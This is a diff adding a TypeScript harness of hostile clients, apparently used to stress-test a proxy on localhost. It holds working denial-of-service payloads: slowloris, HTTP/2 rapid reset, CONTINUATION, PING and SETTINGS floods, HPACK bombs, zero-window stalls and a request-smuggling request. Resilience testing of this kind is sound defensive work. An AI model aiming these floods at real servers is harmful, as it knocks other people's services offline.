@@ -1,0 +1,89 @@
+/** Clients that mean harm, each for as long as it is let. They run in a process of their own (`attacker.ts`). */
+import { connect, type Socket } from 'node:net';
+import { Flag, FrameType, PREFACE, Setting, settingsFrame } from '../../src/proxy/http2/frames.ts';
+import { frame, headerBlock, headers, number, REQUEST } from '../../test/hostile/raw-http2.ts';
+
+export interface Attack {
+  readonly name: string;
+  /** Connections held at once; each is made again when it is closed. */
+  readonly connections: number;
+  /** What is written at first. */
+  readonly opening?: Buffer;
+  /** Written again and again, as fast as it is taken; without it the connection stays silent after the opening. */
+  readonly flood?: (round: number) => Buffer;
+  /** Written now and then, to look alive. */
+  readonly drip?: Buffer;
+  /** Does not read what comes back. */
+  readonly isDeaf?: true;
+}
+
+const OPENING = Buffer.concat([PREFACE, settingsFrame([])]);
+const repeat = (count: number, make: (i: number) => Buffer): Buffer => Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
+const id = (round: number, i: number): number => 1 + 2 * (round * 100 + i);
+
+export const ATTACKS: readonly Attack[] = [
+  { name: 'nobody', connections: 0 },
+  { name: 'idle connections', connections: 10_000 },
+  { name: 'slowloris: heads that never end', connections: 2000, opening: Buffer.from('GET / HTTP/1.1\r\nHost: a\r\nX-A: '), drip: Buffer.from('b') },
+  { name: 'bodies that never end', connections: 2000, opening: Buffer.from('POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n'), drip: Buffer.from('b') },
+  { name: 'readers that do not read', connections: 200, opening: Buffer.from('GET /large HTTP/1.1\r\nHost: a\r\n\r\n'), isDeaf: true },
+  { name: 'heads of 60 KB, refused', connections: 16, flood: () => Buffer.from(`GET / HTTP/1.1\r\nHost: a\r\n${'X-A: b\r\n'.repeat(7000)}\r\n`) },
+  { name: 'two lengths, refused', connections: 16, flood: () => Buffer.from('POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n') },
+  { name: 'rapid reset', connections: 16, opening: OPENING, flood: (round) => repeat(100, (i) => Buffer.concat([headers(id(round, i)), frame(FrameType.RstStream, 0, id(round, i), number(8))])) },
+  { name: 'CONTINUATION flood', connections: 16, opening: Buffer.concat([OPENING, frame(FrameType.Headers, 0, 1, headerBlock(REQUEST))]), flood: () => repeat(100, () => frame(FrameType.Continuation, 0, 1, headerBlock([['x', 'y']]))) },
+  { name: 'PING flood, unread', connections: 16, opening: OPENING, flood: () => repeat(500, () => frame(FrameType.Ping, 0, 0, '12345678')), isDeaf: true },
+  { name: 'SETTINGS flood, unread', connections: 16, opening: OPENING, flood: () => repeat(500, () => settingsFrame([[Setting.MaxConcurrentStreams, 1]])), isDeaf: true },
+  { name: 'PRIORITY flood', connections: 16, opening: OPENING, flood: () => repeat(500, () => frame(FrameType.Priority, 0, 3, Buffer.from([0, 0, 0, 1, 1]))) },
+  { name: 'zero windows', connections: 50, opening: Buffer.concat([PREFACE, settingsFrame([[Setting.InitialWindowSize, 0]]), repeat(100, (i) => headers(id(0, i), [...REQUEST.slice(0, 2), [':path', '/large'], [':authority', 'a']]))]) },
+  { name: 'HPACK bombs', connections: 16, opening: Buffer.concat([OPENING, frame(FrameType.Headers, Flag.EndHeaders | Flag.EndStream, 1, Buffer.concat([headerBlock(REQUEST), Buffer.from([0x40, 1, 0x78, 0x7f, 0xa0, 0x1e]), Buffer.alloc(127 + 0x20 + (0x1e << 7), 0x61)]))]), flood: (round) => repeat(20, (i) => frame(FrameType.Headers, Flag.EndHeaders | Flag.EndStream, 3 + 2 * (round * 20 + i), Buffer.concat([headerBlock(REQUEST), Buffer.alloc(10_000, 0xbe)]))) },
+];
+
+const DRIP_MS = 1000;
+
+/** @returns how many connections were made until `signal` aborted */
+export async function attack(one: Attack, port: number, signal: AbortSignal): Promise<number> {
+  let made = 0;
+  const hold = async (): Promise<void> => {
+    while (!signal.aborted) {
+      made++;
+      await connectAndHarm(one, port, signal);
+      // A connection that was refused is not tried again without end.
+      await new Promise((resolve) => setTimeout(resolve, 5));
+    }
+  };
+  await Promise.all(Array.from({ length: one.connections }, hold));
+  return made;
+}
+
+function connectAndHarm(one: Attack, port: number, signal: AbortSignal): Promise<void> {
+  return new Promise((resolve) => {
+    const socket = connect(port, '127.0.0.1');
+    const stop = () => socket.destroy();
+    signal.addEventListener('abort', stop, { once: true });
+    let drip: NodeJS.Timeout | undefined;
+    socket.on('error', () => {});
+    socket.on('close', () => {
+      clearInterval(drip);
+      signal.removeEventListener('abort', stop);
+      resolve();
+    });
+    if (one.isDeaf) socket.pause();
+    else socket.resume();
+    socket.on('end', stop);
+    socket.on('connect', () => {
+      if (one.opening) socket.write(one.opening);
+      if (one.drip) drip = setInterval(() => socket.write(one.drip ?? ''), DRIP_MS);
+      if (one.flood) keepWriting(socket, one.flood);
+    });
+  });
+}
+
+function keepWriting(socket: Socket, make: (round: number) => Buffer): void {
+  let round = 0;
+  const next = (): void => {
+    if (!socket.writable) return;
+    if (socket.write(make(round++))) setImmediate(next);
+    else socket.once('drain', next);
+  };
+  next();
+}
